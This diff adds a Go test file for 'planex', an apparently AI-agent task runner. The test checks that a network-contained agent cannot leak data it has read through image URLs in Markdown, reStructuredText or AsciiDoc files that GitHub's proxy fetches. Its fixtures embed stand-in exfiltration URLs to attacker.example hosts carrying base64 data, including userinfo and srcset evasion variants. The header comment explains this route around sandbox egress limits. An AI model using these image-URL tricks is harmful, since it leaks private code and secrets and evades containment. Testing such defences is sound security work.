@@ -1,0 +1,91 @@
+package execute
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/planexhq/planex/internal/agent"
+	"github.com/planexhq/planex/internal/egress"
+	"github.com/planexhq/planex/internal/plan"
+	"github.com/planexhq/planex/internal/sandbox"
+)
+
+// TestRedTeamImagesCarryWhatTheAgentRead: a contained agent, with no
+// way out of its network, writes what it read (here a line of the
+// repository's private code) into the address of an image in a
+// Markdown, reStructuredText or AsciiDoc file. GitHub's image proxy
+// fetches that address from its host as soon as anyone views the file:
+// the pull request's rich diff, the branch, the merged README. Before,
+// planex committed and pushed it; now such a task fails naming the file
+// and the host, unless the host is GitHub's own or one the network
+// allows, or the file held that image already. Where the network is not
+// contained (the agent could send it anywhere itself) nothing is held.
+func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
+	t.Parallel()
+	allowed, err := egress.ParseRules("*.shields.io")
+	if err != nil {
+		t.Fatal(err)
+	}
+	contained := agent.Containment{Sandbox: &sandbox.Sandbox{}, Egress: &agent.Egress{Rules: allowed}}
+	open := agent.Containment{}
+	leak := "https://drop.attacker.example/p.png?d=c2VjcmV0LWFwaS1rZXk"
+	cases := []struct {
+		name    string
+		contain agent.Containment
+		before  map[string]string // files at the base
+		files   map[string]string // what the agent writes
+		want    string            // "" when the task completes
+	}{
+		{"markdown image", contained, nil, map[string]string{"docs/notes.md": "Status: ![ok](" + leak + ")\n"}, "docs/notes.md (an image from drop.attacker.example)"},
+		{"reference image in a README", contained, nil, map[string]string{"README.markdown": "![s][x]\n\n[x]: " + leak + "\n"}, "README.markdown (an image from drop.attacker.example)"},
+		{"html picture", contained, nil, map[string]string{"a/b.md": "<picture><source srcset=\"//x.attacker.example/a.png 2x\"><img src=\"y.png\"></picture>\n"}, "a/b.md (an image from x.attacker.example)"},
+		{"reStructuredText", contained, nil, map[string]string{"docs/index.rst": ".. image:: " + leak + "\n"}, "docs/index.rst (an image from drop.attacker.example)"},
+		{"AsciiDoc imagesdir", contained, nil, map[string]string{"guide.adoc": ":imagesdir: https://imgs.attacker.example/k=c2VjcmV0\n\nimage::a.png[]\n"}, "guide.adoc (an image from imgs.attacker.example)"},
+		{"github.com behind a user name", contained, nil, map[string]string{"x.md": "![x](https://github.com@drop.attacker.example/p)\n"}, "x.md (an image from drop.attacker.example)"},
+		{"a Pages site is its owner's", contained, nil, map[string]string{"x.md": "![x](https://attacker.github.io/p?d=1)\n"}, "x.md (an image from attacker.github.io)"},
+		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
+		{"GitHub's own", contained, nil, map[string]string{"README.md": "![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg) ![b](https://raw.githubusercontent.com/o/r/main/a.png)\n"}, ""},
+		{"an image the file had already", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n"},
+			map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n\nMore text.\n"}, ""},
+		{"a link is not fetched", contained, nil, map[string]string{"x.md": "[report](" + leak + ")\n"}, ""},
+		{"a file GitHub shows as text", contained, nil, map[string]string{"notes.txt": "![ok](" + leak + ")\n"}, ""},
+		{"an open network", open, nil, map[string]string{"x.md": "![ok](" + leak + ")\n"}, ""},
+		{"a rendered file too large to read", contained, nil, map[string]string{"big.md": strings.Repeat("x", maxRendered+1)}, "big.md (a rendered file over 4 MiB"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			ctx := context.Background()
+			repo, tip := testRepo(t)
+			if len(c.before) > 0 {
+				for name, text := range c.before {
+					if err := os.WriteFile(filepath.Join(repo.Root, name), []byte(text), 0o644); err != nil {
+						t.Fatal(err)
+					}
+				}
+				for _, args := range [][]string{{"add", "-A"}, {"commit", "-q", "-m", "before"}} {
+					if out, err := exec.Command("git", append([]string{"-C", repo.Root}, args...)...).CombinedOutput(); err != nil {
+						t.Fatalf("git %v: %v\n%s", args, err, out)
+					}
+				}
+				tip, _ = repo.Head(ctx)
+			}
+			r := &Runner{Repo: repo, Agent: step{files: c.files}.agent(), Contain: c.contain}
+			defer r.Close(ctx)
+			o := r.Run(ctx, Job{Task: plan.Task{ID: "T1", Title: "t", Scope: "**"}, Base: tip, Session: "s"})
+			if c.want == "" {
+				if o.Status != plan.StatusCompleted {
+					t.Fatalf("%s: %s", o.Status, o.Error)
+				}
+				return
+			}
+			if o.Status != plan.StatusFailed || !strings.Contains(o.Error, c.want) {
+				t.Fatalf("%s %q, want failed naming %q", o.Status, o.Error, c.want)
+			}
+		})
+	}
+}
